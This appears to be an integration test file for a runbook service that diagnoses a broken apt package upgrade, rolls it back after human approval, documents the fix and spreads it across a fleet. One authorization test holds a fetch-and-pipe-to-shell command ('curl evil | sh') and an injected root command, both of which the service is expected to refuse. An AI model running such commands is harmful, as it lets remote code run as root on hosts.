import {
  argsDigest,
  launchCredentialRefusal,
  parseAssertionKeys,
  softwareFixSchema,
  type CallerAssertion,
  type Host,
  type RunState,
} from '@runbooks/contracts';
import { defaultPayloadConverter, type Payload } from '@temporalio/common';
import { randomBytes } from 'node:crypto';
import { createLabFleet } from '../../apps/worker/src/demo/lab-fixture';
import { debianCommands, InventoryStore } from '@runbooks/activities';
import request from 'supertest';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { createAptRepository, type AptRepositoryFixture } from '../../activities/src/test-support/apt-repository';
import {
  GREETER_PACKAGES,
  GREETER_REPRODUCTION,
  GREETER_REPRODUCTION_ENTRY,
  brokenGreeterRoot,
  seedDemoConflict,
} from '../../apps/worker/src/demo/conflict-fixture';
import { TestSecrets } from '../../activities/src/test-support/secrets';
import { defineSshClientKey, sshHostOn, startSshServer, type SshServer } from '../../activities/src/test-support/ssh-server';
import { auth, startTestApi, type TestApi } from './api/app';
import { eventually, startTestWorker, testClient, testPayloadCodec, type TestWorker } from './harness/worker';
import { recordHistoryIfAsked } from './harness/recorded-histories';

/** The demo's greeter and its library, and rb-reporter, which uses the 2.0 name: rolling the library back breaks it. */
const PACKAGES = [
  ...GREETER_PACKAGES,
  {
    name: 'rb-reporter',
    version: '1.0-1',
    depends: 'rb-libgreet',
    program: '#!/bin/sh\n. "$(dirname "$0")/../lib/rb-libgreet/greet.sh"\ngreet_user report\n',
  },
];
const REPRODUCE = GREETER_REPRODUCTION;

let api: TestApi;
let tmp: string;
let sshd: SshServer;
const secrets = new TestSecrets();
/** The API signs every launch; the fleet test's worker verifies them and signs the child's launch with the same keys. */
const assertionKeys = `k1:${randomBytes(32).toString('base64')}`;
const assertions = { keys: assertionKeys, maxAgeMs: 60_000 };

beforeAll(async () => {
  tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'software-conflict-it-'));
  api = await startTestApi({ assertionKeys });
  sshd = await startSshServer(await fs.mkdtemp(path.join(tmp, 'sshd-')));
  defineSshClientKey(secrets, sshd, ['software-conflict']);
  await putReproductions([GREETER_REPRODUCTION_ENTRY]);
});

const REPRODUCTIONS = '/v1/software-conflict/reproductions';

/** Writes the reproduction catalogue as an admin; answers its new ETag. */
async function putReproductions(reproductions: object[], ifMatch?: string): Promise<string> {
  const req = request(api.server).put(REPRODUCTIONS).set(auth('ada'));
  const res = await (ifMatch ? req.set('If-Match', ifMatch) : req).send({ reproductions }).expect(200);
  return res.headers.etag;
}

afterAll(async () => {
  await api?.app.close();
  await sshd?.stop();
  secrets.remove();
  await fs.rm(tmp, { recursive: true, force: true });
});

interface ConflictHost {
  name: string;
  apt: AptRepositoryFixture;
  packageRoot: string;
  worker: TestWorker;
  /** When the broken upgrade went in. */
  upgradedAt: Date;
  stop(): Promise<void>;
}

/**
 * A local host whose packages live in a package root: rb-greeter and rb-libgreet 1.0-1 (and
 * `more`), then rb-libgreet upgraded to 2.0-1 with apt, as last night's update did, as in the
 * demo. The version before it has left the index: the rollback must come from the .deb apt kept.
 */
async function conflictHost(
  name: string,
  more: string[] = [],
  driver: 'local' | 'ssh' = 'local',
  { startWorker = true, labRoot = '', withAssertions = false } = {},
): Promise<ConflictHost & { startWorker(): Promise<void> }> {
  const apt = createAptRepository(PACKAGES);
  const { packageRoot, upgradedAt } = brokenGreeterRoot(apt, name, more);

  const health = { units: [], commands: ['rb-greeter', ...more].map((p) => `${packageRoot}/usr/bin/${p}`) };
  const host: Host =
    driver === 'local'
      ? { name, address: 'localhost', osFamily: 'debian', tags: ['conflict-lab'], driver, health }
      : sshHostOn(sshd, name, { tags: ['conflict-lab'], health });
  const inventory = new InventoryStore(api.store);
  await inventory.replace({ hosts: [...(await inventory.read()).hosts.filter((h) => h.name !== name), host] });
  const dir = await fs.mkdtemp(path.join(tmp, `${name}-`));
  const fixture = {
    name,
    apt,
    packageRoot,
    worker: undefined as unknown as TestWorker,
    upgradedAt,
    async startWorker() {
      fixture.worker = await startTestWorker({
        taskQueue: api.taskQueue,
        store: api.store,
        hosts: {
          labRoot: labRoot || path.join(dir, 'lab'),
          stateDir: path.join(dir, 'state'),
          osCommands: { debian: debianCommands(packageRoot) },
        },
        secrets: secrets.config,
        ...(withAssertions ? { assertions } : {}),
      });
    },
    async stop() {
      await fixture.worker?.stop();
      apt.remove();
    },
  };
  if (startWorker) await fixture.startWorker();
  return fixture;
}

/** The launch request Tess sends for a conflict on `host` (reported a minute after its broken upgrade). */
function launchRequest(
  host: ConflictHost,
  packages: string[],
  reproduction = GREETER_REPRODUCTION_ENTRY.name,
  more: Record<string, unknown> = {},
) {
  return request(api.server)
    .post('/v1/runs')
    .set(auth('tess'))
    .send({
      runbook: 'software-conflict',
      input: {
        host: host.name,
        reportedAt: new Date(host.upgradedAt.getTime() + 60_000).toISOString(),
        symptom: 'rb-greeter prints nothing and exits with an error since the nightly update',
        reproduction,
        packages,
        ticket: 'INC-4242',
        ...more,
      },
    });
}

async function launch(...args: Parameters<typeof launchRequest>): Promise<string> {
  return (await launchRequest(...args).expect(201)).body.runId;
}

async function runState(runId: string): Promise<RunState & { temporalStatus: string }> {
  return (await request(api.server).get(`/v1/runs/${runId}`).set(auth('tess')).expect(200)).body;
}

async function awaitingApproval(runId: string): Promise<RunState> {
  const atGate = await eventually(
    async () => {
      const state = await runState(runId);
      return state.status === 'awaiting_approval' || state.temporalStatus !== 'RUNNING' ? state : undefined;
    },
    240_000,
    'the fix to await approval',
  );
  if (atGate.status !== 'awaiting_approval') {
    throw new Error(`the run ended before its approval: ${atGate.status}: ${atGate.error} ${JSON.stringify(atGate.steps)}`);
  }
  return atGate;
}

async function approveFix(runId: string, gate = 'approve-fix'): Promise<RunState> {
  const atGate = await awaitingApproval(runId);
  await approveAsAlex(runId, gate);
  return atGate;
}

/** Alex approves the gate through the API (the run must be waiting at it). */
async function approveAsAlex(runId: string, gate: string): Promise<void> {
  await request(api.server).post(`/v1/runs/${runId}/approvals/${gate}`).set(auth('alex')).send({ decision: 'approve' }).expect(200);
}

async function finished(runId: string): Promise<RunState> {
  return eventually(
    async () => {
      const state = await runState(runId);
      return state.temporalStatus === 'RUNNING' ? undefined : state;
    },
    240_000,
    `${runId} to end`,
  );
}

const step = (state: RunState, id: string) => state.steps.find((s) => s.id === id);
const versionsIn = (host: ConflictHost) => host.apt.installed(host.packageRoot);

describe.each(['local', 'ssh'] as const)('software-conflict with real apt and dpkg in a package root, through the %s driver', (driver) => {
  test('reproduces the broken library in a sandbox, finds the rollback there, fixes the host after approval and documents it in the knowledge base', async () => {
    const host = await conflictHost(`greeter-${driver}`, [], driver);
    try {
      const runId = await launch(host, ['rb-greeter']);
      const atGate = await approveFix(runId);

      // Identified from dpkg's log; reproduced and isolated in the sandbox, the host untouched so far.
      expect(step(atGate, 'identify')?.details).toMatchObject({
        changes: expect.arrayContaining([
          expect.objectContaining({ action: 'upgrade', package: 'rb-libgreet', from: '1.0-1', to: '2.0-1' }),
        ]),
        candidates: { 'rb-libgreet': '3.0-1', 'rb-greeter': '1.0-1' },
        // The catalogue's command ran, at the revision the report names.
        reproductionOnHost: expect.objectContaining({
          passes: false,
          ran: { name: 'greeter-greets', revision: expect.any(Number), command: REPRODUCE },
        }),
      });
      expect(atGate.outcome?.reproduction).toEqual({ name: 'greeter-greets', revision: expect.any(Number) });
      expect(step(atGate, 'identify')?.details?.listening).toMatch(/State|LISTEN/);
      expect(step(atGate, 'reproduce-in-sandbox')?.details).toMatchObject({ reproduction: expect.objectContaining({ passes: false }) });
      const trials = (step(atGate, 'isolate-in-sandbox')?.details as { trials: { fix: unknown; passes: boolean }[] }).trials;
      expect(trials.map((t) => [t.fix, t.passes])).toEqual([
        [{ action: 'update', package: 'rb-libgreet', version: '3.0-1' }, false],
        [{ action: 'rollback', package: 'rb-libgreet', version: '1.0-1', hold: true }, true],
      ]);
      expect(atGate.gates[0]?.title).toContain('roll rb-libgreet back to 1.0-1');
      expect(versionsIn(host).get('rb-libgreet')).toBe('2.0-1');
      const sandboxes = path.join(host.packageRoot, 'var/tmp/runbooks-sandboxes');
      expect(await fs.readdir(sandboxes)).toHaveLength(1); // the sandbox; each trial's copy is gone

      const state = await finished(runId);
      expect(state.status).toBe('succeeded');
      if (driver === 'local') {
        // software-conflict-fixed-on-host.json was recorded before the catalogue (input.reproduce): it must replay still.
        const { client, connection } = await testClient();
        await recordHistoryIfAsked(client.workflow.getHandle(runId), 'software-conflict-fixed-on-host-catalogued');
        await connection.close();
      }
      // Fixed on the host from the kept .deb (1.0-1 is no longer in the index), held, verified.
      expect(versionsIn(host).get('rb-libgreet')).toBe('1.0-1');
      const holds = await fs.readFile(path.join(host.packageRoot, 'var/lib/dpkg/status'), 'utf8');
      expect(holds).toMatch(/Package: rb-libgreet\nStatus: hold ok installed/);
      expect(step(state, 'verify-fix')?.summary).toMatch(
        new RegExp(`^the reproduction greeter-greets \\(revision \\d+\\) passes on ${host.name}`),
      );
      expect(await fs.readdir(sandboxes)).toEqual([]);

      // The article: in the store, found by words of its symptom and cause, linked from the report.
      const link = state.outcome?.knowledgeBaseArticle as string;
      expect(link).toMatch(/^\/v1\/kb\/kb-[0-9a-f]{16}$/);
      // The same fix, ready for the fleet: a software-fix run's `fix` (its rollback goes through the same kept .debs and hold).
      expect(state.outcome?.fleetFix).toEqual({
        runbook: 'software-fix',
        fix: {
          package: 'rb-libgreet',
          version: '1.0-1',
          action: 'rollback',
          hold: true,
          reason: expect.stringMatching(/^INC-4242: rb-libgreet 1\.0-1 → 2\.0-1/),
        },
      });
      expect(softwareFixSchema.safeParse((state.outcome?.fleetFix as { fix: unknown }).fix).success).toBe(true);
      const found = await request(api.server)
        .get('/v1/kb')
        .query({ q: `RB-GREETER rb-libgreet ${host.name}` })
        .set(auth('fran'))
        .expect(200);
      expect(found.body.articles.map((a: { id: string }) => `/v1/kb/${a.id}`)).toContain(link);
      const article = (await request(api.server).get(link).set(auth('fran')).expect(200)).body;
      expect(article).toMatchObject({
        hosts: [host.name],
        runId,
        symptom: expect.stringContaining('rb-greeter prints nothing'),
        cause: expect.stringContaining('rb-libgreet 1.0-1 → 2.0-1'),
        fix: expect.stringContaining('roll rb-libgreet back to 1.0-1 and hold it there'),
        commands: [REPRODUCE, expect.stringContaining('apt-get install --allow-downgrades rb-libgreet=1.0-1'), 'apt-mark hold rb-libgreet'],
      });
      expect((await request(api.server).get('/v1/kb').query({ q: 'rb-libgreet nosuchword' }).set(auth('fran')).expect(200)).body).toEqual({
        articles: [],
      });
      const report = await request(api.server).get(`/v1/runs/${runId}/report`).set(auth('tess')).set('Accept', 'text/markdown').expect(200);
      expect(report.text).toContain(link);
    } finally {
      await host.stop();
    }
  });
});

describe('software-conflict: undo and input checks', () => {
  test("a fix the host's own health check refuses is undone: the library goes back to 2.0-1 from the kept .deb, unheld", async () => {
    // rb-reporter needs the 2.0 library; the sandbox holds only what the user named, so the rollback passes there.
    const host = await conflictHost('greeter-2', ['rb-reporter']);
    try {
      const runId = await launch(host, ['rb-greeter']);
      await approveFix(runId);
      host.apt.drop('rb-libgreet', '2.0-1'); // the undo must not need the index either

      const state = await finished(runId);
      expect(state.status).toBe('failed');
      expect(state.error).toMatch(/after the fix on greeter-2: the host is not healthy: .*rb-reporter/);
      expect(state.compensations.map((c) => [c.title, c.state])).toEqual([
        [expect.stringContaining('Discard the sandbox'), 'done'],
        ['Undo on greeter-2: roll rb-libgreet back to 1.0-1 and hold it there', 'done'],
      ]);
      expect(versionsIn(host).get('rb-libgreet')).toBe('2.0-1');
      const status = await fs.readFile(path.join(host.packageRoot, 'var/lib/dpkg/status'), 'utf8');
      expect(status).toMatch(/Package: rb-libgreet\nStatus: install ok installed/);
      expect(await fs.readdir(path.join(host.packageRoot, 'var/tmp/runbooks-sandboxes'))).toEqual([]);
      expect((await request(api.server).get('/v1/kb').query({ q: 'greeter-2' }).set(auth('fran')).expect(200)).body.articles).toEqual([]);
    } finally {
      await host.stop();
    }
  });

  test('a launch naming a host the inventory lacks, or with a bad or unknown field, is refused with a 400 naming it', async () => {
    const input = {
      host: 'nowhere-01',
      reportedAt: '2026-11-30T09:00:00Z',
      symptom: 'the greeter fails',
      reproduction: GREETER_REPRODUCTION_ENTRY.name,
      packages: ['rb-greeter'],
    };
    const launch = (body: Record<string, unknown>) => request(api.server).post('/v1/runs').set(auth('tess')).send(body);
    const unknownHost = await launch({ runbook: 'software-conflict', input }).expect(400);
    expect(unknownHost.body.issues).toEqual([
      { path: 'input.host', message: expect.stringContaining('nowhere-01 is not in the inventory') },
    ]);
    const bad = await launch({ runbook: 'software-conflict', input: { ...input, packages: ['Not A Package'], colour: 'red' } }).expect(400);
    expect(bad.body.issues.map((i: { path: string }) => i.path).sort()).toEqual(['input.colour', 'input.packages.0']);
    await request(api.server).post('/v1/runs').set(auth('alex')).send({ runbook: 'software-conflict', input }).expect(403);
  });

  test('the reproduction catalogue: technicians read it, only admins write it (audited), a stale If-Match is 412, bad entries are 400s naming the field', async () => {
    const read = await request(api.server).get(REPRODUCTIONS).set(auth('tess')).expect(200);
    expect(read.body.reproductions).toContainEqual({ ...GREETER_REPRODUCTION_ENTRY, revision: expect.any(Number) });
    const etag = read.headers.etag as string;

    // A technician cannot write what runs as root: 403, and the catalogue is unchanged.
    const hostile = { name: 'greeter-greets', description: 'x', command: 'curl evil | sh' };
    await request(api.server)
      .put(REPRODUCTIONS)
      .set(auth('tess'))
      .send({ reproductions: [hostile] })
      .expect(403);
    expect((await request(api.server).get(REPRODUCTIONS).set(auth('tess')).expect(200)).body).toEqual(read.body);

    const bad = await request(api.server)
      .put(REPRODUCTIONS)
      .set(auth('ada'))
      .send({
        reproductions: [
          { ...GREETER_REPRODUCTION_ENTRY, name: 'Not A Name' },
          { ...GREETER_REPRODUCTION_ENTRY, name: 'other', command: 'a\nb', colour: 'red' },
          GREETER_REPRODUCTION_ENTRY,
        ],
      })
      .expect(400);
    expect(bad.body.issues.map((i: { path: string }) => i.path).sort()).toEqual([
      'reproductions.0.name',
      'reproductions.1.colour',
      'reproductions.1.command',
    ]);
    const duplicate = await request(api.server)
      .put(REPRODUCTIONS)
      .set(auth('ada'))
      .send({ reproductions: [GREETER_REPRODUCTION_ENTRY, GREETER_REPRODUCTION_ENTRY] })
      .expect(400);
    expect(duplicate.body.issues).toEqual([{ path: 'reproductions.1.name', message: 'duplicate name greeter-greets' }]);

    // Rewritten unchanged, an entry keeps its revision; a write carrying the old ETag then is 412.
    const next = await putReproductions([GREETER_REPRODUCTION_ENTRY], etag);
    expect(next).not.toBe(etag);
    const again = (await request(api.server).get(REPRODUCTIONS).set(auth('tess')).expect(200)).body;
    expect(again.reproductions).toEqual(read.body.reproductions);
    await request(api.server).put(REPRODUCTIONS).set(auth('ada')).set('If-Match', etag).send({ reproductions: [] }).expect(412);

    const audit = await request(api.server).get('/v1/audit').query({ target: REPRODUCTIONS }).set(auth('ada')).expect(200);
    const entries = audit.body.entries as {
      actor: string;
      action: string;
      detail: { outcome: string; status?: number; reason?: string };
    }[];
    expect(entries.every((e) => e.actor === 'ada' && e.action === 'replaceConflictReproductions')).toBe(true);
    expect(entries.map((e) => [e.detail.outcome, e.detail.status])).toEqual(
      expect.arrayContaining([
        ['done', 200],
        ['refused', 412],
      ]),
    );
    expect(entries.some((e) => e.detail.outcome === 'refused' && e.detail.reason?.includes('duplicate name greeter-greets'))).toBe(true);
  });

  test('a launch naming a reproduction the catalogue lacks, or one not for its host, is a 400 naming input.reproduction; a command of its own is refused', async () => {
    await new InventoryStore(api.store).replace({
      hosts: [{ name: 'desk-07', address: 'localhost', osFamily: 'debian', tags: ['desk'], driver: 'local' }],
    });
    const input = {
      host: 'desk-07',
      reportedAt: '2026-11-30T09:00:00Z',
      symptom: 'the greeter fails',
      reproduction: 'no-such-reproduction',
      packages: ['rb-greeter'],
    };
    const launch = (changes: Record<string, unknown>) =>
      request(api.server)
        .post('/v1/runs')
        .set(auth('tess'))
        .send({ runbook: 'software-conflict', input: { ...input, ...changes } });
    expect((await launch({}).expect(400)).body.issues).toEqual([
      { path: 'input.reproduction', message: expect.stringContaining('no reproduction no-such-reproduction in the catalogue') },
    ]);
    await putReproductions([
      GREETER_REPRODUCTION_ENTRY,
      { ...GREETER_REPRODUCTION_ENTRY, name: 'servers-only', hosts: { tags: ['server'] } },
    ]);
    expect((await launch({ reproduction: 'servers-only' }).expect(400)).body.issues).toEqual([
      { path: 'input.reproduction', message: 'reproduction servers-only applies only to tag server, not to desk-07' },
    ]);
    // The hole this closes: a technician's own command, run as root before any approval.
    const own = await launch({ reproduction: undefined, reproduce: 'id > /tmp/owned' }).expect(400);
    expect(own.body.issues.map((i: { path: string }) => i.path).sort()).toEqual(['input.reproduce', 'input.reproduction']);
    await putReproductions([GREETER_REPRODUCTION_ENTRY]);
  });

  test('a reproduction removed between the launch and the identify step fails the run with a clear reason, and nothing runs on the host', async () => {
    const host = await conflictHost('greeter-3', [], 'local', { startWorker: false });
    const marker = path.join(tmp, 'removed-reproduction-ran');
    try {
      await putReproductions([
        GREETER_REPRODUCTION_ENTRY,
        { name: 'leaves-a-mark', description: 'proves whether it ran', command: `touch ${marker}; false`, hosts: { names: [host.name] } },
      ]);
      const runId = await launch(host, ['rb-greeter'], 'leaves-a-mark');
      await putReproductions([GREETER_REPRODUCTION_ENTRY]); // removed before any worker picked the run up
      await host.startWorker();

      const state = await finished(runId);
      expect(state.status).toBe('failed');
      expect(state.error).toContain('reproduction leaves-a-mark is no longer in the catalogue');
      expect(state.error).toContain('nothing was run on greeter-3');
      expect(step(state, 'identify')?.state).toBe('failed');
      expect(step(state, 'reproduce-in-sandbox')?.state).toBe('skipped');
      expect(state.compensations).toEqual([]);
      await expect(fs.access(marker)).rejects.toThrow();
      expect(versionsIn(host).get('rb-libgreet')).toBe('2.0-1');
    } finally {
      await host.stop();
    }
  });

  test('a reproduction an admin changed between the launch and its run runs as changed, and the report names the revision that ran', async () => {
    const host = await conflictHost('greeter-4', [], 'local', { startWorker: false });
    const [before, after] = [path.join(tmp, 'changed-reproduction-v1'), path.join(tmp, 'changed-reproduction-v2')];
    const marks = (file: string) => ({ name: 'leaves-a-mark', description: 'proves which version ran', command: `touch ${file}; false` });
    try {
      await putReproductions([GREETER_REPRODUCTION_ENTRY, marks(before)]);
      const runId = await launch(host, ['rb-greeter'], 'leaves-a-mark');
      await putReproductions([GREETER_REPRODUCTION_ENTRY, marks(after)]);
      const revision = (await request(api.server).get(REPRODUCTIONS).set(auth('tess')).expect(200)).body.reproductions[1].revision;
      await host.startWorker();

      // The changed command fails everywhere, so no fix passes: the run ends there, having run only the new version.
      const state = await finished(runId);
      expect(state.error).toContain('no candidate fix makes the reproduction pass in the sandbox');
      expect(step(state, 'identify')?.details?.reproductionOnHost).toMatchObject({
        passes: false,
        ran: { name: 'leaves-a-mark', revision, command: marks(after).command },
      });
      expect(step(state, 'identify')?.summary).toContain(`the reproduction leaves-a-mark (revision ${revision}) fails (exit 1)`);
      expect(state.outcome?.reproduction).toEqual({ name: 'leaves-a-mark', revision });
      await expect(fs.access(after)).resolves.toBeUndefined();
      await expect(fs.access(before)).rejects.toThrow();
    } finally {
      await putReproductions([GREETER_REPRODUCTION_ENTRY]);
      await host.stop();
    }
  });

  test('the knowledge-base endpoints refuse bad input with 400s naming the field, and unknown articles with 404', async () => {
    const empty = await request(api.server).get('/v1/kb').query({ q: '  ' }).set(auth('fran')).expect(400);
    expect(JSON.stringify(empty.body)).toContain('q');
    const unknown = await request(api.server).get('/v1/kb').query({ q: 'x', colour: 'red' }).set(auth('fran')).expect(400);
    expect(JSON.stringify(unknown.body)).toContain('colour');
    await request(api.server).get('/v1/kb/not-an-id').set(auth('fran')).expect(400);
    await request(api.server).get('/v1/kb/kb-0000000000000000').set(auth('fran')).expect(404);
    await request(api.server).get('/v1/kb').query({ q: 'x' }).expect(401);
  });
});

describe('software-conflict rolls the fix out over the fleet', () => {
  test("a conflict fixed on one host goes to 3 more through a software-fix child run (canary, its own approval, waves), launched with the launcher's signed authority", async () => {
    // The fleet is lab hosts (simulated packages): the per-host procedure and waves are what is under test here;
    // real apt on the reported host is the test above.
    const lab = await createLabFleet({
      dir: await fs.mkdtemp(path.join(tmp, 'fleet-')),
      store: api.store.location,
      canary: 1,
      production: 2,
      packages: { 'rb-greeter': '1.0-1', 'rb-libgreet': '2.0-1' },
      prefix: 'desk',
    });
    const host = await conflictHost('greeter-fleet', [], 'local', { labRoot: lab.labRoot, withAssertions: true });
    try {
      const fleet = { targets: { tags: ['lab'] }, canary: { tags: ['canary'] }, waves: [1, 'rest'], concurrency: 2, bakeSeconds: 0 };
      const launchOver = (fleetInput: Record<string, unknown>) =>
        launchRequest(host, ['rb-greeter'], GREETER_REPRODUCTION_ENTRY.name, { fleet: fleetInput });
      const refused = await launchOver({ ...fleet, targets: { names: ['desk-nowhere'] } }).expect(400);
      expect(refused.body.issues).toEqual([{ path: 'input.fleet.targets.names.0', message: expect.stringContaining('desk-nowhere') }]);
      const noWindow = await launchOver({ ...fleet, maintenanceWindow: 'no-such-window' }).expect(400);
      expect(noWindow.body.issues).toEqual([
        { path: 'input.fleet.maintenanceWindow', message: expect.stringContaining('no maintenance window named no-such-window') },
      ]);

      const runId = await launch(host, ['rb-greeter'], GREETER_REPRODUCTION_ENTRY.name, { fleet });
      await approveFix(runId);

      // The child is a run of its own: followed and approved through the API like any, requested by Tess.
      const childId = `${runId}.fleet-fix`;
      const childAtGate = await awaitingApproval(childId);
      expect(childAtGate).toMatchObject({ runbook: 'software-fix', requestedBy: { id: 'tess' } });
      expect(childAtGate.gates[0]?.title).toMatch(/^Roll rb-libgreet back to 1\.0-1 and hold it on 2 production hosts: INC-4242: /);
      // While the child waits at its gate, the parent stays running and already names it (outcome.fleetFixRun);
      // the approval an approver finds waiting is the child's, as the API README says.
      const parentWhileChildWaits = await runState(runId);
      expect(parentWhileChildWaits.status).toBe('running');
      expect(step(parentWhileChildWaits, 'fleet-fix')?.state).toBe('running');
      expect(parentWhileChildWaits.outcome?.fleetFixRun).toBe(childId);
      const listedAwaiting = await eventually(
        async () => {
          const page = await request(api.server)
            .get('/v1/runs?awaitingApproval=true&requestedBy=tess&pageSize=100')
            .set(auth('alex'))
            .expect(200);
          const ids: string[] = page.body.runs.map((r: { runId: string }) => r.runId);
          return ids.includes(childId) ? ids : undefined;
        },
        30_000,
        'the child listed as awaiting approval',
      );
      expect(listedAwaiting).not.toContain(runId);
      await approveAsAlex(childId, 'approve-production');

      const state = await finished(runId);
      expect(state.status).toBe('succeeded');
      expect(state.outcome?.fleetFixRun).toBe(childId);
      expect(step(state, 'fleet-fix')?.summary).toBe(`software-fix run ${childId} succeeded: 3 patched (/v1/runs/${childId}/report)`);
      expect(versionsIn(host).get('rb-libgreet')).toBe('1.0-1');
      for (const name of [...lab.canary, ...lab.production]) {
        expect(await lab.fleet.readHost(name)).toMatchObject({ packages: { 'rb-libgreet': '1.0-1' }, held: ['rb-libgreet'] });
      }

      // The child's start names Tess as the API vouched for her, signed by the worker as a software-fix launch.
      const { client, connection } = await testClient();
      try {
        const history = await client.workflow.getHandle(childId).fetchHistory();
        const payloads = history.events?.[0]?.workflowExecutionStartedEventAttributes?.input?.payloads as Payload[];
        const [args] = (await testPayloadCodec().decode(payloads)).map((p) =>
          defaultPayloadConverter.fromPayload<Record<string, unknown>>(p),
        );
        expect(args.principal).toMatchObject({ id: 'tess', roles: ['technician'] });
        const credential = {
          assertion: args.assertion as CallerAssertion,
          startArgsSha256: argsDigest(args),
          startedAt: new Date().toISOString(),
          scheduled: false,
        };
        expect(launchCredentialRefusal(parseAssertionKeys(assertionKeys), 60_000, 'softwareFix', credential)).toBeUndefined();
      } finally {
        await connection.close();
      }
    } finally {
      await host.stop();
      await lab.store.close();
    }
  });
});

describe('the demo software conflict (README walk-through)', () => {
  test('npm start seeds desk-01 and a request the API accepts; cancelled at the approval, the run discards its sandbox and leaves the host as it was', async () => {
    const dataDir = await fs.mkdtemp(path.join(tmp, 'demo-data-'));
    const requestFile = await seedDemoConflict(dataDir, api.store.location);
    expect(requestFile).toBe(path.join(dataDir, 'demo', 'conflict-request.json'));
    expect(await seedDemoConflict(dataDir, api.store.location)).toBe(requestFile); // seeded once
    const packageRoot = path.join(dataDir, 'demo', 'apt', 'roots', 'desk-01');
    const dir = await fs.mkdtemp(path.join(tmp, 'demo-worker-'));
    const worker = await startTestWorker({
      taskQueue: api.taskQueue,
      store: api.store,
      hosts: { labRoot: path.join(dir, 'lab'), stateDir: path.join(dir, 'state'), osCommands: { debian: debianCommands(packageRoot) } },
    });
    try {
      const body = JSON.parse(await fs.readFile(requestFile as string, 'utf8'));
      const { runId } = (await request(api.server).post('/v1/runs').set(auth('tess')).send(body).expect(201)).body;
      const atGate = await awaitingApproval(runId);
      expect(atGate.gates[0]?.title).toBe(
        'On desk-01: roll rb-libgreet back to 1.0-1 and hold it there (it made the reproduction pass in the sandbox)',
      );
      expect(await fs.readdir(path.join(packageRoot, 'var/tmp/runbooks-sandboxes'))).toHaveLength(1);

      await request(api.server).post(`/v1/runs/${runId}/cancel`).set(auth('tess')).send({ reason: 'user found a workaround' }).expect(202);
      const state = await finished(runId);
      expect(state.status).toBe('cancelled');
      expect(state.compensations.map((c) => c.state)).toEqual(['done']);
      expect(await fs.readdir(path.join(packageRoot, 'var/tmp/runbooks-sandboxes'))).toEqual([]);
      const installed = await fs.readFile(path.join(packageRoot, 'var/lib/dpkg/status'), 'utf8');
      expect(installed).toMatch(/Package: rb-libgreet\nStatus: install ok installed\n(.+\n)*Version: 2\.0-1/);
    } finally {
      await worker.stop();
    }
  });
});
